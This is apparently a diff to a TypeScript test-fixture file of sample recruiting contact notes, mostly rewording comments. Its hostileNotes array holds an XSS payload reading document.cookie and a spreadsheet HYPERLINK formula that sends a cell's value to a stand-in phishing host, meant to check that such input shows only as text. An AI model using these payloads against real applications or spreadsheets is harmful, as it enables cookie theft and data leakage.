@@ -1,4 +1,4 @@
-/** Notes about a person, as left by several colleagues over years. */
+/** Notes about a person, written by several colleagues over years. */
 export const contactNotes: readonly string[] = [
   'Met at the Lisbon panel. Open to a move after the audit closes in March.',
   'Notice period 6 months to the end of a quarter. Do not ring before 17:30.',
@@ -32,7 +32,7 @@ export const contactNotes: readonly string[] = [
   'PhD on scanning FMCW lidar; three patents, two lapsed.',
 ]
 
-/** Short notes of a hot list's member, most often typed during a call. */
+/** Short notes about a member of a hot list, mostly typed during a call. */
 export const memberNotes: readonly string[] = [
   'left voicemail, call Tuesday',
   'warm intro through Ana',
@@ -60,7 +60,7 @@ export const memberNotes: readonly string[] = [
   'said yes to a coffee 🙂',
 ]
 
-/** Where a member came from. */
+/** Sources of a member. */
 export const memberSources: readonly string[] = [
   'LinkedIn search',
   'Referral',
@@ -74,7 +74,9 @@ export const memberSources: readonly string[] = [
   'Inbound',
 ]
 
-/** Notes made of what attackers and spreadsheets send: shown as text or they are a defect. */
+/**
+ * Notes with input from attackers and spreadsheets; anything but plain display as text is a defect.
+ */
 export const hostileNotes: readonly string[] = [
   '<img src=x onerror="alert(document.cookie)"> pasted from his e-mail signature',
   '=HYPERLINK("http://phish.example?leak="&A1,"Click for CV")',
@@ -101,10 +103,7 @@ const paragraphs: readonly string[] = [
   'Next steps: dinner with the founders in week 47, case study on unit economics (they send the data room on Monday), two references from peers rather than bosses.',
 ]
 
-/**
- * Writes a note of exactly `length` characters: what happens when a whole reference call is pasted
- * in.
- */
+/** Returns a note of exactly `length` characters, as if a whole reference call was pasted in. */
 export function longNote(length: number): string {
   let text = ''
   for (let i = 0; text.length < length; i++)
